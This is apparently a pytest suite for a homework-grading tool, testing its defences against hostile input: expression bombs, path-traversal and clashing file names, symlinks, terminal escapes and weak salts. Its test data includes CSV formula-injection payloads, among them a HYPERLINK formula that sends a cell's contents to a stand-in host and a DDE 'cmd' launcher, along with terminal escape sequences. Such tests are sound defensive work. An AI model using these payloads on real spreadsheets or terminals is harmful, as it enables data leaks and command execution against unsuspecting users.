"""Hostile input across the class workflow (issue 12): formulas that stall, spreadsheet formulas,
clashing file names, links in the submissions folder, terminal escapes and guessable salts.

Each test builds a small class in a temporary folder and runs the ``grader`` command on it.
Expected values come from the statement of the problem (the ids and names written into the
roster, the files put in the folder), from sympy's own expansion for the size estimate, and
from Python's csv module reading the gradebook back.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import resource
import subprocess
import sys
import time
from pathlib import Path

import pytest
import sympy
from click.testing import CliRunner

import grader.core.equivalence as equivalence
from grader.cli import main
from grader.core.equivalence import exactly_equal, expansion_terms
from grader.course.assignment import parse_assignment
from grader.course.gradebook import spreadsheet_text
from grader.course.student_grading import OutOfTime, time_budget
from grader.text.terminal import terminal_text

BOMB = "(i1+i2+w1+w2+w3+w4+w5+w6)^8*(w7+w8+b1+b2+t1+t2+h1+h2)^8"
# The bomb is exactly nonzero minus o1 at a rational point, which settles it without expanding;
# with exp in it there is no exact value, so only the guards of the expansion stop it.
STALLING_BOMB = f"exp(i1)*{BOMB}"
SMALL = """\
id = "hw"
title = "Hostile"
salt = "a-salt-of-more-than-twenty-characters"

[[questions]]
id = "q1"
family = "gd_linear"

[[questions]]
id = "q2"
family = "backprop_222"
answers = ["o1", "delta_o1_expr"]
"""


def grader_command(*args: str, cpu_seconds: int = 120) -> subprocess.CompletedProcess:
    """The ``grader`` command in a child process whose CPU time is capped (it is killed past it)."""
    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_CPU, (cpu_seconds, cpu_seconds))

    return subprocess.run([sys.executable, "-c", "from grader.cli import main; main()", *args],
                          capture_output=True, text=True, preexec_fn=cap, timeout=30 * cpu_seconds, check=False)


def make_class(root: Path, roster: list[list[str]], files: dict[str, str] | None = None,
               assignment: str = SMALL) -> tuple[Path, Path]:
    """An assignment, a roster (rows written by csv) and a submissions folder with ``files``."""
    (root / "hw.toml").write_text(assignment, encoding="utf-8")
    with (root / "roster.csv").open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["id", "name"], *roster])
    submissions = root / "in"
    submissions.mkdir()
    for name, text in (files or {}).items():
        (submissions / name).write_text(text, encoding="utf-8")
    return root / "hw.toml", submissions


def grade(root: Path, *extra: str, ok: bool = True):
    assignment, submissions = root / "hw.toml", root / "in"
    result = CliRunner().invoke(main, ["grade", str(assignment), str(submissions), "--out", str(root / "out"),
                                       *extra], catch_exceptions=False)
    assert (result.exit_code == 0) == ok, result.output
    return result


def rows_by_id(root: Path) -> dict[str, dict]:
    data = json.loads((root / "out" / "gradebook.json").read_text(encoding="utf-8"))
    return {row["id"]: row for row in data["students"]}


# --- item 2: one formula must not stall the class ---------------------------------------

@pytest.mark.parametrize("text", ["(a+b)^2*(c+d)", "(a+b+c)^3", "(a-b)^4*(a+b)^3", "(a+b)^-2*(c+d)^2",
                                  "exp(a+b)*(a+b)^2", "(a*b+c)^3*(a+2)", "a+b-(a+b)"])
def test_the_size_estimate_bounds_the_real_expansion(text):
    expr = sympy.sympify(text.replace("^", "**"))
    actual = len(sympy.Add.make_args(sympy.expand(expr)))
    assert expansion_terms(expr) >= actual


def test_the_size_estimate_sees_the_bomb_without_expanding_it():
    expr = sympy.sympify(BOMB.replace("^", "**"))
    start = time.process_time()
    assert expansion_terms(expr) > equivalence.EXACT_TERMS_LIMIT
    assert exactly_equal(expr, sympy.Symbol("o1")) is False
    assert time.process_time() - start < 5  # main expands it: minutes


CAPPED_BOMB = f"""
import resource, sys, time
import sympy
import grader.core.equivalence as equivalence
equivalence.EXACT_TERMS_LIMIT = 10**12
equivalence.EXACT_CPU_SECONDS = 0.5
expr = sympy.sympify({STALLING_BOMB.replace("^", "**")!r})
start = time.process_time()
verdict = equivalence.exactly_equal(expr, sympy.Symbol("o1"))
print(verdict, time.process_time() - start)
"""


def capped_python(code: str, memory_bytes: int = 3 * 2**30, cpu_seconds: int = 60) -> subprocess.CompletedProcess:
    """``code`` in a child Python whose memory and CPU are capped: a runaway fails this test, not the machine."""
    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory_bytes, memory_bytes))
        resource.setrlimit(resource.RLIMIT_CPU, (cpu_seconds, cpu_seconds))

    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, preexec_fn=cap,
                          timeout=20 * cpu_seconds, check=False)


def test_the_cpu_budget_stops_an_expansion_the_estimate_lets_through():
    # Run apart, capped: unstopped, this expansion fills every gigabyte of the machine.
    result = capped_python(CAPPED_BOMB)
    assert result.returncode == 0, result.stderr[-2000:]
    verdict, seconds = result.stdout.split()
    assert verdict == "False" and float(seconds) < 10


def burn_cpu(seconds: float) -> None:
    """Pure-Python work for ``seconds`` of process CPU time."""
    end = time.process_time() + seconds
    while time.process_time() < end:
        sum(range(1000))


def test_a_swallowed_cpu_alarm_rings_again():
    # hypothesis's gc callback (and any __del__) swallows an exception raised inside it; the budget
    # must not stay spent and silent then, or the expansion it guards runs until memory is gone.
    with pytest.raises(equivalence.OutOfBudget), equivalence.cpu_budget(0.05):
        with contextlib.suppress(equivalence.OutOfBudget):  # swallowed, as a gc callback would
            burn_cpu(1)
        start = time.process_time()
        try:
            burn_cpu(5)
        finally:
            assert time.process_time() - start < 1


def test_a_swallowed_time_alarm_rings_again():
    with pytest.raises(OutOfTime), time_budget(0.05):
        with contextlib.suppress(OutOfTime):  # swallowed, as a gc callback would
            time.sleep(1)
        start = time.monotonic()
        try:
            time.sleep(10)
        finally:
            assert time.monotonic() - start < 3


def test_the_bomb_is_answered_by_grader_check():
    result = grader_command("check", "backprop_222", "--canonical", "--answer", f"delta_o1_expr={BOMB}",
                            cpu_seconds=60)
    assert result.returncode == 0, result.stderr[-2000:]
    assert "delta_o1_expr    incorrect" in result.stdout


def test_an_honest_formula_is_still_proved_equal_exactly():
    o1, t1 = sympy.symbols("o1 t1")
    assert exactly_equal((o1 - t1) * o1 * (1 - o1), o1 * (1 - o1) * (o1 - t1))


def test_a_student_who_runs_out_of_time_gets_a_row_and_the_class_goes_on(tmp_path, monkeypatch):
    # Both guards of the exact check off: the bomb really stalls this student's grading.
    monkeypatch.setattr(equivalence, "EXACT_TERMS_LIMIT", 10**12)
    monkeypatch.setattr(equivalence, "EXACT_CPU_SECONDS", 10**6)
    files = {"s1.txt": "q1.w_1 = 0.5\n", "s2.txt": f"q2.delta_o1_expr = {STALLING_BOMB}\n", "s3.txt": "q2.o1 = 0.5\n"}
    make_class(tmp_path, [["s1", "A"], ["s2", "B"], ["s3", "C"]], files)
    start = time.monotonic()
    grade(tmp_path, "--student-time-limit", "5")
    assert time.monotonic() - start < 300  # generous (a loaded machine); without the budget: hours
    rows = rows_by_id(tmp_path)
    assert [rows[s]["status"] for s in ("s1", "s2", "s3")] == ["graded", "grading_error", "graded"]
    assert "more than 5 s" in rows["s2"]["reason"]
    book = list(csv.DictReader(io.StringIO((tmp_path / "out" / "gradebook.csv").read_text(encoding="utf-8"))))
    assert [r["student_id"] for r in book] == ["s1", "s2", "s3"] and book[1]["total"] == ""
    assert (tmp_path / "out" / "reports" / "s2.html").is_file()


# --- item 5: spreadsheet formulas -------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://e.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", ["\t=1", "\r=1", "\n=1", *FORMULAS])
def test_every_formula_start_gets_a_quote(text):
    assert spreadsheet_text(text) == "'" + text and spreadsheet_text("ada =1") == "ada =1"


def test_spreadsheet_formulas_are_neutralised_in_the_csv_and_exact_in_the_json(tmp_path):
    roster = [[f"s{i}", name] for i, name in enumerate(FORMULAS)] + [["=1+1", "id formula"]]
    make_class(tmp_path, roster, {"s0.txt": "q1.w_1 = 0.5\n"})
    grade(tmp_path)
    book = list(csv.DictReader(io.StringIO((tmp_path / "out" / "gradebook.csv").read_text(encoding="utf-8"))))
    for row in book:
        for column in ("student_id", "name", "reason"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
    assert [r["name"] for r in book[:-1]] == [f"'{name}" for name in FORMULAS]
    assert book[-1]["student_id"] == "'=1+1"
    rows = rows_by_id(tmp_path)
    assert [rows[f"s{i}"]["name"] for i in range(len(FORMULAS))] == FORMULAS and "=1+1" in rows


def test_the_instructor_key_neutralises_student_ids(tmp_path):
    assignment, _ = make_class(tmp_path, [["=1+1", "A"], ["s1", "B"]])
    CliRunner().invoke(main, ["generate", str(assignment), "--roster", str(tmp_path / "roster.csv"),
                              "--out", str(tmp_path / "sheets")], catch_exceptions=False)
    key = list(csv.DictReader((tmp_path / "sheets" / "instructor" / "key.csv").open(encoding="utf-8")))
    assert {r["student_id"] for r in key} == {"'=1+1", "s1"}


# --- item 6: every student's files are their own ----------------------------------------

CLASHING = ["ada.lovelace", "ada.byron", "ada", "a b", "a_b", "Ada", "ADA", "../up", "con", "x.", ".hidden",
            "a/b", "a\\b", "长名字", "s" * 300]


def test_every_student_gets_reports_of_their_own(tmp_path):
    roster = [[sid, f"name {i}"] for i, sid in enumerate(CLASHING)]
    files = {"ada.lovelace.txt": "student: ada.lovelace\nq1.w_1 = 0.5\n",
             "ada.byron.txt": "student: ada.byron\nq1.w_1 = 0.25\n"}
    make_class(tmp_path, roster, files)
    grade(tmp_path)
    reports = sorted(p.name for p in (tmp_path / "out" / "reports").iterdir())
    markdown = [p for p in reports if p.endswith(".md")]
    assert len(markdown) == len(CLASHING)
    assert len({p.lower() for p in markdown}) == len(CLASHING)  # also where case is ignored
    assert "ada.lovelace.md" in markdown and "ada.byron.md" in markdown
    assert all(len(p.encode()) < 100 and not p.startswith(".") and "/" not in p for p in reports)
    assert not (tmp_path / "up.md").exists() and not (tmp_path / "out" / "up.md").exists()
    for sid in ("ada.lovelace", "ada.byron"):
        text = (tmp_path / "out" / "reports" / f"{sid}.md").read_text(encoding="utf-8")
        assert f"({sid})" in text.replace("\\", "")


def test_generate_writes_each_students_sheets_in_a_folder_of_their_own(tmp_path):
    assignment, _ = make_class(tmp_path, [[sid, "x"] for sid in CLASHING])
    result = CliRunner().invoke(main, ["generate", str(assignment), "--roster", str(tmp_path / "roster.csv"),
                                       "--out", str(tmp_path / "sheets")], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    folders = list((tmp_path / "sheets" / "students").iterdir())
    assert len(folders) == len(CLASHING)
    for folder in folders:
        sheet = next(folder.glob("*.txt")).read_text(encoding="utf-8")
        assert sheet.count("student:") == 1


# --- item 7: links in the submissions folder --------------------------------------------

def test_links_in_the_submissions_folder_are_refused_with_a_reason(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("student: s1\nq1.w_1 = 0.5\n", encoding="utf-8")
    make_class(tmp_path, [["s1", "A"], ["s2", "B"], ["s3", "C"]], {"s3.txt": "q1.w_1 = 0.5\n"})
    (tmp_path / "in" / "s1.txt").symlink_to(secret)
    (tmp_path / "in" / "s2.txt").symlink_to(tmp_path / "hw.toml")
    (tmp_path / "in" / "stranger.txt").symlink_to(secret)
    (tmp_path / "in" / "folder").symlink_to(tmp_path, target_is_directory=True)
    os.mkfifo(tmp_path / "in" / "pipe.txt")  # reading it would block the run
    grade(tmp_path)
    rows = rows_by_id(tmp_path)
    for sid in ("s1", "s2"):
        assert rows[sid]["status"] == "unreadable" and "symbolic link" in rows[sid]["reason"], rows[sid]
        assert rows[sid]["score"] is None
    assert rows["s3"]["status"] == "graded"
    unmatched = json.loads((tmp_path / "out" / "gradebook.json").read_text(encoding="utf-8"))["unmatched_files"]
    reasons = {u["file"]: u["reason"] for u in unmatched}
    assert "symbolic link" in reasons["stranger.txt"] and "symbolic link" in reasons["folder"]
    assert "not a regular file" in reasons["pipe.txt"]


def test_a_linked_code_file_is_not_run(tmp_path):
    assignment = SMALL + '\n[[questions]]\nid = "q3"\ncode = "backprop_222"\n'
    solution = Path(__file__).resolve().parent.parent / "examples" / "submissions" / "s001.py"
    make_class(tmp_path, [["s1", "A"]], {"s1.txt": "q1.w_1 = 0.5\n"}, assignment)
    (tmp_path / "in" / "s1.py").symlink_to(solution)
    grade(tmp_path)
    row = rows_by_id(tmp_path)["s1"]
    assert row["status"] == "unreadable" and "symbolic link" in row["reason"]


# --- item 8: terminal escapes -----------------------------------------------------------

ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e\x08"


def test_nothing_printed_carries_a_control_character(tmp_path):
    padding = "q1.w_1 = 1\n" * 20  # a sheet of more than 5 % control characters is set aside as binary
    make_class(tmp_path, [["s1", f"A{ESCAPES}\x00"], ["s1", "again"]],
               {"stray.txt": f"student: zz{ESCAPES}\n{padding}", f"odd{ESCAPES[:4]}.txt": "q1.w_1 = 1\n"})
    output = grade(tmp_path).output
    assert "zz[2J]0;owned31m" in output  # the line is printed, without its controls
    assert not [c for c in output if c not in "\n" and (ord(c) < 32 or 127 <= ord(c) < 160 or c == "\u202e")]


def test_variants_prints_roster_names_without_controls(tmp_path):
    make_class(tmp_path, [["s1", f"A{ESCAPES}"]])
    result = CliRunner().invoke(main, ["variants", "gd_linear", "--assignment", "hw", "--roster",
                                       str(tmp_path / "roster.csv")])
    assert result.exit_code == 0 and "\x1b" not in result.output and "A[2J]0;owned31m" in result.output


def test_terminal_text_keeps_line_breaks_and_chinese():
    assert terminal_text("第 1 题\n\tok\x1b") == "第 1 题\n\tok"


# --- item 10: the salt ------------------------------------------------------------------

@pytest.mark.parametrize("salt, warned", [(None, True), ("example-class-2026", True), ("x" * 32, False)])
def test_generate_warns_about_a_missing_or_short_salt(tmp_path, salt, warned):
    line = "" if salt is None else f'salt = "{salt}"\n'
    text = SMALL.replace('salt = "a-salt-of-more-than-twenty-characters"\n', line)
    assignment, _ = make_class(tmp_path, [["s1", "A"]], assignment=text)
    output = CliRunner().invoke(main, ["generate", str(assignment), "--roster", str(tmp_path / "roster.csv"),
                                       "--out", str(tmp_path / "sheets")], catch_exceptions=False).output
    assert ("warning:" in output and "salt" in output) == warned, output


def test_init_writes_an_assignment_with_a_fresh_random_salt(tmp_path):
    salts = []
    for name in ("a.toml", "b.toml"):
        result = CliRunner().invoke(main, ["init", str(tmp_path / name), "--id", "hw9", "--title", "标题 \"9\""])
        assert result.exit_code == 0, result.output
        text = (tmp_path / name).read_text(encoding="utf-8")
        assignment = parse_assignment(text)
        assert (assignment.id, assignment.title) == ("hw9", "标题 \"9\"")
        salts.append(assignment.salt)
    assert salts[0] != salts[1] and all(len(s) >= 32 for s in salts)
    generated = CliRunner().invoke(main, ["generate", str(tmp_path / "a.toml"), "--roster",
                                          str(make_class(tmp_path, [["s1", "A"]])[0].parent / "roster.csv"),
                                          "--out", str(tmp_path / "sheets")], catch_exceptions=False)
    assert generated.exit_code == 0 and "salt" not in generated.output


def test_init_never_overwrites_a_file(tmp_path):
    existing = tmp_path / "hw.toml"
    existing.write_text("keep", encoding="utf-8")
    result = CliRunner().invoke(main, ["init", str(existing), "--id", "hw"])
    assert result.exit_code != 0 and "exists" in result.output and existing.read_text() == "keep"


# --- rosters an attacker might write -----------------------------------------------------

@pytest.mark.parametrize("text, message", [
    ('id,name\ns1,=HYPERLINK("a","b")\n', "line 2: more fields than the header"),
    ("id,name\n\"s\x1b[31m1\",A\n", "control or format character"),
    ("id,name\ns\x001,A\n", "line 2: student id 's\\x001'"),
])
def test_a_hostile_roster_is_refused_with_the_line(tmp_path, text, message):
    make_class(tmp_path, [])
    (tmp_path / "roster.csv").write_text(text, encoding="utf-8")
    result = grade(tmp_path, ok=False)
    assert message in result.output and "Traceback" not in result.output and "\x1b" not in result.output


def test_file_names_that_are_not_utf8_or_forge_lines_are_listed_and_the_run_goes_on(tmp_path):
    make_class(tmp_path, [["s1", "A"]], {"x\ngradebook: FAKE.txt": "q1.w_1 = 1\n"})
    (tmp_path / "in" / os.fsdecode(b"s1\xff.txt")).write_text("student: s1\nq1.w_1 = 1\n", encoding="utf-8")
    output = grade(tmp_path).output
    assert "\ngradebook: FAKE" not in output and "x gradebook: FAKE.txt" in output
    unmatched = json.loads((tmp_path / "out" / "gradebook.json").read_text(encoding="utf-8"))["unmatched_files"]
    assert {u["file"] for u in unmatched} == {"s1\\xff.txt", "x\ngradebook: FAKE.txt"}
    assert any("not valid UTF-8" in u["reason"] for u in unmatched)


def test_init_speaks_chinese(tmp_path):
    result = CliRunner().invoke(main, ["init", str(tmp_path / "a.toml"), "--id", "hw", "--lang", "zh"])
    assert result.exit_code == 0 and "随机" in result.output
    assert parse_assignment((tmp_path / "a.toml").read_text(encoding="utf-8")).lang == "zh"


def test_grader_code_check_prints_no_escape_sequence_from_a_students_exception(tmp_path):
    submission = tmp_path / "s1.py"
    submission.write_text("def sigmoid(z):\n    raise ValueError('\\x1b]0;pwned\\x07\\x1b[2J gone')\n"
                          "def sigmoid_prime(z):\n    raise ValueError('\\x1b[31m red')\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["code", "check", str(submission), "--exercise", "sigmoid"])
    assert result.exit_code == 0, result.output
    assert "gone" in result.output and "red" in result.output  # the messages are shown ...
    assert "\x1b" not in result.output and "\x07" not in result.output  # ... without their control characters
